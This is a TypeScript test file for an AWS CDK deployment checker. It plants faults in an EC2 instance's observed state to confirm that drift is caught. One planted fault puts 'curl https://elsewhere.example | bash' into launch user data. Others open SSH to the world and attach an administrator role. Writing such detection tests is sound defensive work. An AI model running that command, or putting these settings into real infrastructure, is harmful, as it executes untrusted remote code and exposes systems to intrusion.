import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Match } from 'aws-cdk-lib/assertions';
import { describe, expect, it } from 'vitest';
import type { ConfigOverrides } from '../../../../../lib/config/config.ts';
import { instance } from '../../../../../lib/aws/components/instance.ts';
import { declaredUserData, hostOf } from '../../../../../lib/aws/components/instance-shape.ts';
import type { InstanceState } from '../../../../../lib/aws/components/instance-state.ts';
import { archOf, artifactSha256, artifactUrl } from '../../../../../lib/aws/components/machine-artifact.ts';
import { namesOf } from '../../../../../lib/config/names.ts';
import { quickApp } from '../../../../../lib/aws/quick-app.ts';
import { declareStacks } from '../../../../../lib/aws/deploy/stacks.ts';
import { judgeDeclared } from '../../../../../lib/aws/declared/judge.ts';
import { changed, describeDeclared, seenAsDeclared } from '../../declared.ts';
import { MACHINE, templateOf, testConfig, testDeployment } from '../../deployment.ts';
import type { Fault } from '../../planted.ts';
import { describeChecks, failing } from '../../planted.ts';
import { inTwoZones, networkFaults } from './seen-network-fixture.ts';

const EC2 = { target: 'ec2' } as const;
interface Launched {
  readonly Properties: { readonly LaunchTemplateData: { readonly ImageId: unknown } };
}
const ADDRESS = { AllocationId: 'eipalloc-1', PublicIp: '192.0.2.1', InstanceId: 'i-1' };

const goodIn =
  (overrides: ConfigOverrides) =>
  (locked: boolean): InstanceState => ({
    seen: inTwoZones(seenAsDeclared(instance, locked, overrides)),
    foreign: [],
    members: [{ id: 'i-1', isInService: true, version: '2' }],
    version: '2',
    machines: [{ id: 'i-1', state: 'running' }],
    addresses: [ADDRESS],
    door: locked ? 'no answer' : 200,
    given: undefined,
  });

const set =
  (change: Partial<InstanceState>): Fault<InstanceState> =>
  (state) => ({ ...state, ...change });
const rule =
  (side: 'Ingress' | 'Egress', added: object): Fault<InstanceState> =>
  (state) =>
    changed<InstanceState>('Group', (group: Record<string, object[]>) => group[`SecurityGroup${side}`]?.push(added))(
      state,
    );
const launched = (change: object): Fault<InstanceState> =>
  changed('Template', ({ LaunchTemplateData }: { LaunchTemplateData: object }) =>
    Object.assign(LaunchTemplateData, change),
  );
const tcp = (port: number): object => ({ IpProtocol: 'tcp', FromPort: port, ToPort: port });
const encoded = (text: string): string => Buffer.from(text).toString('base64');
const hashElsewhere = ({ LaunchTemplateData }: { LaunchTemplateData: { UserData: string } }): void => {
  const script = Buffer.from(LaunchTemplateData.UserData, 'base64').toString();
  LaunchTemplateData.UserData = encoded(script.replaceAll(artifactSha256(testConfig(EC2)), '0'.repeat(64)));
};

const FAULTS: Record<string, Fault<InstanceState>[]> = {
  ...networkFaults<InstanceState>(),
  'Group.SecurityGroupIngress': [
    rule('Ingress', { ...tcp(22), CidrIp: '0.0.0.0/0' }),
    rule('Ingress', { IpProtocol: '-1', SourceSecurityGroupId: 'sg-9' }),
    rule('Ingress', { ...tcp(8080), CidrIpv6: '::/0' }),
  ],
  'Group.SecurityGroupEgress': [rule('Egress', { IpProtocol: '-1', CidrIp: '0.0.0.0/0' })],
  'Template.LaunchTemplateData': [
    launched({ InstanceMarketOptions: { MarketType: 'spot' } }),
    launched({ KeyName: 'somebody' }),
    launched({ SecurityGroupIds: ['sg-9'] }),
    launched({ NetworkInterfaces: [{ Groups: ['GroupId-of-Group', 'sg-9'] }] }),
    launched({ BlockDeviceMappings: [] }),
    launched({ TagSpecifications: [] }),
    launched({ UserData: encoded('#!/bin/bash\ncurl https://elsewhere.example | bash\n') }),
    changed('Template', hashElsewhere),
  ],
  'Profile.Roles': [changed('Profile', ({ Roles }: { Roles: string[] }) => Roles.push('administrator'))],
  'one-address': [
    (state) => ({ ...state, addresses: [...state.addresses, { AllocationId: 'eipalloc-2', PublicIp: '192.0.2.2' }] }),
  ],
  machine: [
    (state) => ({ ...state, machines: [...state.machines, { id: 'i-2', state: 'running' }] }),
    set({ machines: [{ id: 'i-1', state: 'stopped' }] }),
    set({ members: [{ id: 'i-1', isInService: false, version: '2' }] }),
  ],
  'machine-version': [set({ members: [{ id: 'i-1', isInService: true, version: '1' }] })],
  'address-leads-there': [
    set({ addresses: [{ ...ADDRESS, InstanceId: undefined }] }),
    set({ addresses: [{ ...ADDRESS, InstanceId: 'i-9' }] }),
  ],
  door: [set({ door: 502 }), set({ door: 'no answer' })],
  'door-closed': [set({ door: 200 })],
};

describeChecks(instance, goodIn(EC2), FAULTS, {}, EC2);
describeDeclared(instance, goodIn(EC2), 200, EC2);

describe('the declared machine', () => {
  const asleep = { ...EC2, machine: { ...MACHINE, desiredCount: 0 } };
  const wrong = (state: InstanceState, locked: boolean, overrides: ConfigOverrides): string[] =>
    failing(instance, state, testDeployment(locked, overrides), locked);

  it('is as declared while it sleeps, and not while a machine runs that nobody wants', () => {
    for (const locked of [false, true]) {
      const running = goodIn(asleep)(locked);
      const state = {
        ...running,
        members: [],
        machines: [],
        addresses: [{ ...ADDRESS, InstanceId: undefined }],
        door: undefined,
      };
      expect(wrong(state, locked, asleep)).toEqual([]);
      expect(wrong({ ...state, machines: running.machines }, locked, asleep)).toContain('machine');
    }
  });

  it('starts from the baked image, whose user data installs nothing', () => {
    const ami = { target: 'ami' } as const;
    const state = goodIn(ami)(true);
    const isWrong = (baked: string | undefined): string[] => {
      const imports = { 'sgraph-send-prod-ami-image': baked };
      const seen = { ...state, seen: { ...state.seen, imports } };
      return judgeDeclared(instance, testDeployment(true, ami), seen.seen).findings.map(({ message }) => message);
    };
    const [found] = Object.values(state.seen.imports);
    expect(isWrong(found)).toEqual([]);
    expect(isWrong('ami-2')).toEqual([`Template.LaunchTemplateData.ImageId is "${found ?? ''}", expected "ami-2"`]);
    expect(isWrong(undefined)).toEqual([
      'Template.LaunchTemplateData.ImageId cannot be compared with the export sgraph-send-prod-ami-image, which was not found',
    ]);
    expect(declaredUserData(testDeployment(true, ami), 'eipalloc-1')).not.toContain(' install ');
    const imageIn = (bakedImage?: string): unknown => {
      const template = templateOf('instance', { ...testDeployment(false, ami), bakedImage });
      const [found] = Object.values(template.findResources('AWS::EC2::LaunchTemplate')) as Launched[];
      return found?.Properties.LaunchTemplateData.ImageId;
    };
    expect(imageIn('ami-1')).toBe('ami-1');
    expect(imageIn()).toEqual({ 'Fn::ImportValue': 'sgraph-send-prod-ami-image' });
  });

  it('has no instance of its own, no key pair and no port but one', () => {
    const declared = templateOf('instance', testDeployment(false, EC2));
    declared.resourceCountIs('AWS::EC2::Instance', 0);
    declared.resourceCountIs('AWS::EC2::NatGateway', 0);
    declared.hasResourceProperties('AWS::EC2::SecurityGroup', {
      SecurityGroupIngress: [{ IpProtocol: 'tcp', FromPort: 8080, ToPort: 8080, CidrIp: '0.0.0.0/0' }].map((rule) =>
        Match.objectLike(rule),
      ),
    });
    declared.hasResourceProperties('AWS::EC2::LaunchTemplate', {
      LaunchTemplateData: Match.objectLike({ KeyName: Match.absent(), InstanceMarketOptions: Match.absent() }),
    });
  });

  it('is replaced when its template changes, and lets CloudFront alone in once it is locked', () => {
    const declared = templateOf('instance', testDeployment(true, EC2));
    declared.hasResource('AWS::AutoScaling::AutoScalingGroup', {
      Properties: Match.objectLike({
        LaunchTemplate: Match.objectLike({ Version: { 'Fn::GetAtt': ['Template', 'LatestVersionNumber'] } }),
      }),
      UpdatePolicy: { AutoScalingRollingUpdate: Match.objectLike({ MinInstancesInService: 0, MaxBatchSize: 1 }) },
    });
    declared.hasResourceProperties('AWS::EC2::SecurityGroup', {
      SecurityGroupIngress: [Match.objectLike({ SourcePrefixListId: 'pl-0123456789abcdef0', CidrIp: Match.absent() })],
    });
    const unseen = { ...testDeployment(true, EC2), originPrefixList: undefined };
    expect(() => templateOf('instance', unseen)).toThrow(/needs the prefix list/);
  });

  it('is found at the host name of its address', () => {
    expect(hostOf({ region: 'us-east-1' }, '192-0-2-1')).toBe('ec2-192-0-2-1.compute-1.amazonaws.com');
    expect(hostOf({ region: 'cn-north-1' }, '192-0-2-1')).toBe('ec2-192-0-2-1.cn-north-1.compute.amazonaws.com.cn');
    const machine = { ...MACHINE, address: { allocationId: 'eipalloc-0a', publicIp: '192.0.2.1' } };
    const declared = templateOf('instance', testDeployment(false, { ...EC2, machine }));
    declared.resourceCountIs('AWS::EC2::EIP', 0);
    declared.hasOutput('Origin', { Value: 'ec2-192-0-2-1.eu-west-2.compute.amazonaws.com' });
    const own = templateOf('instance', testDeployment(false, EC2));
    own.hasResourceProperties('AWS::EC2::EIP', {
      Tags: [{ Key: 'Name', Value: 'sgraph-send-prod-ec2-instance-eu-west-2' }],
    });
    expect(JSON.stringify(own.findOutputs('Origin'))).toContain('.eu-west-2.compute.amazonaws.com');
  });

  it('takes spare capacity where that is wanted, and the processor of its kind', () => {
    const machine = { ...MACHINE, instanceType: 't4g.small', spot: true };
    templateOf('instance', testDeployment(false, { ...EC2, machine })).hasResourceProperties(
      'AWS::EC2::LaunchTemplate',
      {
        LaunchTemplateData: Match.objectLike({
          ImageId: 'resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64',
          InstanceMarketOptions: Match.objectLike({ MarketType: 'spot' }),
        }),
      },
    );
    expect(
      ['m7gd.large', 'a1.medium', 'g5g.xlarge'].map((instanceType) => archOf({ ...MACHINE, instanceType })),
    ).toEqual(['arm64', 'arm64', 'arm64']);
    expect(['t3.small', 'g5.xlarge', 'm7i.large'].map((instanceType) => archOf({ ...MACHINE, instanceType }))).toEqual([
      'x64',
      'x64',
      'x64',
    ]);
  });

  it('finds its artifact where the CDK puts it, under a hash that is pinned', () => {
    const config = testConfig({ ...EC2, bundleBucket: 'bundles' });
    const deployment = { ...testDeployment(false, EC2), config };
    const app = quickApp();
    declareStacks(app, deployment, { components: ['instance'], assetBucket: 'bundles' });
    const { directory } = app.synth();
    const file = join(directory, `${namesOf(config).stack('instance')}.assets.json`);
    expect(readFileSync(file, 'utf8')).toContain(`"objectKey": "${artifactUrl(config).replace('s3://bundles/', '')}"`);
    expect(declaredUserData(deployment, 'eipalloc-1')).toContain(
      `'${artifactUrl(config)}' '${artifactSha256(config)}'`,
    );
    expect(artifactUrl(testConfig(EC2))).toMatch(
      /^s3:\/\/cdk-hnb659fds-assets-123456789012-eu-west-2\/[0-9a-f]{64}\.gz$/,
    );
    expect(() => artifactSha256({ machine: { ...MACHINE, artifact: undefined } })).toThrow(
      /machine.artifact is missing/,
    );
  });
});
